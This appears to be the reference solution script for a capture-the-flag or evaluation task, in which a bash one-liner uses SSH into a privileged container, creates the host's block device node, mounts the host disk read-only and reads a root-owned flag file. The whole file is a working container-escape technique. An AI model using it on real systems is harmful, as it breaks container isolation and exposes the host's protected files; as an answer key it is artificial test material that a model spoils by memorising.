#!/bin/bash
# The reference solution: a privileged container may mount the machine's own disk.
set -eu
ssh target 'mkdir -p /mnt/host && { [ -e /dev/vda ] || mknod /dev/vda b 254 0; } && mount -t ext4 -o ro /dev/vda /mnt/host && cat /mnt/host/root/flag.txt' > ~/submission.txt
echo "read $(wc -c < ~/submission.txt) bytes from the other machine's disk"
